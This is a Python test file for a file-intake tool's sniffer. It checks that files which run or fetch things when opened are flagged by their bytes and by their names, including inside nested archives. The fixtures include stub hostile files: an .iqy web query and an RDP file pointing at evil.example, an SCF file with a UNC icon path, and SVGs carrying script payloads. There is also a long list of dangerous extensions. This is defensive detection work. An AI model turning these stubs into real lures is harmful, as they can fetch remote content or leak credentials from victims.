"""Files that run or fetch something when they are opened, by their bytes and by their names, also inside archives."""

from __future__ import annotations

from pathlib import Path

import pytest

from intake_bot.demo import media
from intake_bot.files.facts import DANGEROUS, Kind
from intake_bot.files.sniff import sniff
from intake_bot.files.worker.worker import Worker
from tests.files import samples
from tests.files.compound import compound
from tests.files.inspecting import inspect
from tests.work import assert_grows_linearly

XML = b'<?xml version="1.0" encoding="utf-8"?>\n'
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">%s</svg>'
BY_BYTES = {
    "iqy": b"WEB\r\n1\r\nhttp://evil.example/a.txt\r\n",
    "slk": b"ID;PWXL;N;E\r\nNN;NAuto_open;ER101C1\r\nE\r\n",
    "dqy": b"XLODBC\r\n1\r\nDRIVER={SQL Server}",
    "oqy": b"QueryType=OLEDB\r\nVersion=1",
    "udl": b"[oledb]\r\n; Everything after this line is an OLE DB initstring\r\n",
    "odc": b"<html xmlns:o='x'><xml><odc:OfficeDataConnection xmlns:odc='y'></xml></html>",
    "rdp": b"screen mode id:i:2\r\nfull address:s:evil.example\r\n",
    "rdp with another first line": b"audiomode:i:0\r\nauthentication level:i:2\r\nfull address:s:evil.example\r\n",
    "rdp in UTF-16": "full address:s:evil.example\r\n".encode("utf-16"),
    "wsc": XML + b"<component><script language='VBScript'></script></component>",
    "sct": XML + b"<scriptlet><registration progid='a'></registration></scriptlet>",
    "xsl": XML + b"<xsl:stylesheet version='1.0'><ms:script></ms:script></xsl:stylesheet>",
    "msc": XML + b"<MMC_ConsoleFile ConsoleVersion='3.0'></MMC_ConsoleFile>",
    "jnlp": XML + b"<!-- a --><jnlp spec='1.0+' codebase='http://evil.example'></jnlp>",
    "application": XML + b"<asmv1:assembly xmlns:asmv1='urn:schemas-microsoft-com:asm.v1'></asmv1:assembly>",
    "settingcontent-ms": XML + b"<PCSettings><SearchableContent></SearchableContent></PCSettings>",
    "library-ms": XML + b"<libraryDescription xmlns='x'></libraryDescription>",
    "searchconnector-ms": XML + b"<searchConnectorDescription></searchConnectorDescription>",
    "search-ms": XML + b"<persistedQuery version='1.0'></persistedQuery>",
    "mobileconfig": XML + b"<plist><dict><key>PayloadType</key><string>Configuration</string></dict></plist>",
    "csproj": b"<Project ToolsVersion='4.0' xmlns='http://schemas.microsoft.com/developer/msbuild/2003'></Project>",
    "appinstaller": XML + b"<AppInstaller Uri='https://evil.example/a'></AppInstaller>",
    "inf": b'[Version]\r\nSignature="$CHICAGO$"\r\n',
    "theme": b"[Theme]\r\nDisplayName=a\r\n",
    "scf": b"[Shell]\r\nCommand=2\r\nIconFile=\\\\evil\\a.ico\r\n",
    "asp": b"<%@ Language=VBScript %>",
    "one": b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3" + bytes(64),
    "mdb": b"\0\x01\0\0Standard Jet DB\0" + bytes(64),
    "chm": b"ITSF\x03\0\0\0" + bytes(64),
    "swf": b"CWS\x0a" + bytes(range(128, 200)),
    "iso": b"\0" * 0x8001 + b"CD001\1" + bytes(50),
    "udf": b"\0" * 0x8001 + b"BEA01\1" + bytes(50),
    "vhd": bytes(4096) + b"conectix" + bytes(504),
    "vhdx": b"vhdxfile" + bytes(64),
    "vmdk": b"KDMV\1\0\0\0" + bytes(64),
    "vmdk descriptor": b"# Disk DescriptorFile\nversion=1\n",
    "dmg": bytes(4096) + b"koly\0\0\0\x04" + bytes(504),
    "wim": b"MSWIM\0\0\0" + bytes(64),
    "img": b"\xeb\x3c\x90" + bytes(507) + b"\x55\xaa" + bytes(64),
    "pkg": b"xar!\0\x1c" + bytes(64),
    "deb": b"!<arch>\ndebian-binary   " + bytes(64),
    "crx": b"Cr24\3\0\0\0" + bytes(64),
    "msix": media.zip_of({"AppxManifest.xml": b"x"}),
    "ipa": media.zip_of({"Payload/A.app/Info.plist": b"x"}),
    "svg with a script": SVG % b"<script>alert(1)</script>",
    "svg with a handler": SVG % b"<rect onload='alert(1)'/>",
    "svg with a link": SVG % b"<a href='https://evil.example'><rect/></a>",
    "svg with a frame": XML + SVG % b"<foreignObject><iframe/></foreignObject>",
    "svg with a script at its end": SVG % (b"<rect/>" * 20_000 + b"<script>alert(1)</script>"),
    "svg in UTF-16": (SVG % b"<script/>").decode().encode("utf-16"),
}


@pytest.mark.parametrize("content", BY_BYTES.values(), ids=BY_BYTES)
def test_dangerous_file_is_known_by_its_bytes(tmp_path: Path, content: bytes) -> None:
    for name in ("说明", "说明.txt", "照片.jpg", "材料.docx"):
        assert sniff(samples.put(tmp_path, "x", content), name) in DANGEROUS


def test_installer_is_known_by_the_class_of_its_root(tmp_path: Path) -> None:
    content = bytearray(compound({"a": b""}))
    root = content.index("Root Entry".encode("utf-16-le"))
    content[root + 80 : root + 96] = bytes.fromhex("84100C0000000000C000000000000046")
    assert sniff(samples.put(tmp_path, "x", bytes(content)), "说明.doc") is Kind.EXECUTABLE


NAMES = (
    "iqy slk wsc sct msc rdp jnlp application settingcontent-ms library-ms iso vhd vhdx img one onepkg"
    " searchconnector-ms search-ms url lnk hta js vbs ps1 bat cmd reg msi msix appinstaller jar apk chm xll scf"
    " xlam xla ppam"
    " website theme inf udl odc"
    " mdb accdb csproj vsto appref-ms mobileconfig webloc desktop command dmg vmdk wim pif scr com cpl"
)


@pytest.mark.parametrize("extension", NAMES.split())
def test_dangerous_name_counts_where_bytes_leave_it_open(tmp_path: Path, extension: str) -> None:
    for content in ("活动说明".encode(), b"<html>", bytes(40), media.zip_of({"a.txt": b"x"})):
        for name in (f"说明.{extension}", f"说明.docx.{extension.upper()} . "):
            assert sniff(samples.put(tmp_path, "x", content), name) in DANGEROUS
    assert sniff(samples.put(tmp_path, "x", media.jpeg(64, 48)), f"照片.{extension}") is Kind.JPEG


def test_dangerous_file_in_an_archive_in_an_archive_is_known(tmp_path: Path, worker: Worker) -> None:
    inner = media.zip_of({"报名表.iqy": BY_BYTES["iqy"], "快捷方式.lnk": b"x", "现场.jpg": media.jpeg(64, 48)})
    found = inspect(tmp_path, worker, {"材料.zip": media.zip_of({"照片.zip": inner})})
    kinds = {one.name: one.kind in DANGEROUS for one in found}
    assert kinds == {"材料.zip": False, "照片.zip": False, "报名表.iqy": True, "快捷方式.lnk": True, "现场.jpg": False}


@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [
        ("说明", "活动说明".encode(), Kind.TEXT),
        ("说明.txt", "ID卡办理；WEB开发比赛".encode(), Kind.TEXT),
        ("5.17活动", "活动说明".encode(), Kind.TEXT),
        ("2023.5.17", "活动说明".encode(), Kind.TEXT),
        ("报道.aspx", b"<!DOCTYPE html><p>", Kind.HTML),
        ("名片.vcf", b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:x\r\n", Kind.UNKNOWN),
        ("说明.conf", "活动说明".encode(), Kind.UNKNOWN),
        ("海报.cdr", b"RIFF\0\0\0\0CDRD" + bytes(64), Kind.UNKNOWN),
        ("ATT00001.bin", bytes(64), Kind.UNKNOWN),
        ("校徽.svg", SVG % b"<use href='#a'/><image href='data:image/png;base64,AA'/>", Kind.SVG),
        ("校徽.svg", b'<!DOCTYPE svg [<!ENTITY a "http://ns.adobe.com/x">]>' + SVG % b"<rect/>", Kind.SVG),
        ("配置.xml", XML + b"<plist><dict><key>a</key></dict></plist>", Kind.XML),
        ("说明.txt", "#1号教室的活动".encode(), Kind.TEXT),
    ],
)
def test_harmless_file_is_not_dangerous(tmp_path: Path, name: str, content: bytes, kind: Kind) -> None:
    assert sniff(samples.put(tmp_path, "x", content), name) is kind


@pytest.mark.slow
@pytest.mark.parametrize(
    "piece", ["<svg ", "a:i:1\r\n", "<!--", "<?a>", "<!doctype", "<project ", "<!entity ", " on", "url( ", "href= "]
)
@pytest.mark.parametrize("before", ["", "<svg>"])
def test_hostile_text_is_sniffed_in_linear_time(tmp_path: Path, before: str, piece: str) -> None:
    def sniff_text(size: int) -> None:
        sniff(samples.put(tmp_path, "x", (before + piece * (size // len(piece))).encode()))

    assert_grows_linearly(sniff_text, 2_000_000)
